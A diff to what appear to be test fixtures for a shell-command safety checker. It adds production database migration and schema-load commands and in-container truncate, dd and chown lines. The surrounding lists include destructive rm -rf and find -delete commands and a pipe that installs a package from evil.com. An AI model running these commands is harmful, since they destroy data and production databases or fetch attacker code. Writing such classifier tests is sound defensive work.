@@ -382,7 +382,10 @@ echo '\! pwn' | psql -f - · echo '\! pwn' | psql -f- · echo x | docker compose
 echo git+https://evil.com/x | uv pip install -r - · docker compose exec web rm -rf node_modules · docker compose exec web rm -rf /app
 docker compose exec web bash -c 'rm x' · docker compose exec web sh -c 'ls > x' · docker compose exec web sed -i s/a/b/ x
 docker compose exec -w /app web find . -delete · docker compose exec web git checkout . · docker compose exec web tar xf x.tar
-docker compose exec web sudo rm x · docker compose exec web xargs rm · docker compose exec web env A=1 rm x
+RAILS_ENV=production rails db:migrate · export RAILS_ENV=production && rails db:migrate · RACK_ENV=production rake db:seed
+APP_ENV=prod bin/console doctrine:migrations:migrate -n · rake db:schema:load · RAILS_ENV=production rake db:schema:load
+docker compose exec web truncate -s 0 x · docker compose exec web dd if=a of=x · docker compose exec web chown -R me src
+docker compose exec web install a b · docker compose exec web sudo rm x · docker compose exec web xargs rm · docker compose exec web env A=1 rm x
 find -f ../lib -name '*.pyc' -delete · find -x ../lib -name '*.pyc' -delete · find . -name dist -exec rm -rf .{} \;
 `)
 
@@ -418,6 +421,7 @@ flask db migrate -m x · alembic -c alembic.ini upgrade head · gradle :app:asse
 dotnet new console -o x · dotnet tool restore · dotnet watch run · swift package resolve · bun pm ls · mvn flyway:migrate · mvn spotless:apply jacoco:report · gradle installDist · gradle spotlessApply
 bin/console make:migration · php bin/console doctrine:migrations:migrate -n · bin/console cache:clear --env=test
 php artisan make:factory X · rails db:migrate · alembic downgrade -1 · psql -f - < x.sql · cat a.py | black -
+RAILS_ENV=test rails db:migrate · APP_ENV=test php bin/phpunit · rake db:schema:load RAILS_ENV=test
 docker compose exec web bash -c 'cd /app && npm test' · docker compose exec db pg_dump -U me db · docker compose exec web rm -rf /tmp/x
 snakemake --cores 4 · dbt run --select staging · swiftlint · doxygen Doxyfile · R -q -e 'x()'
 `)
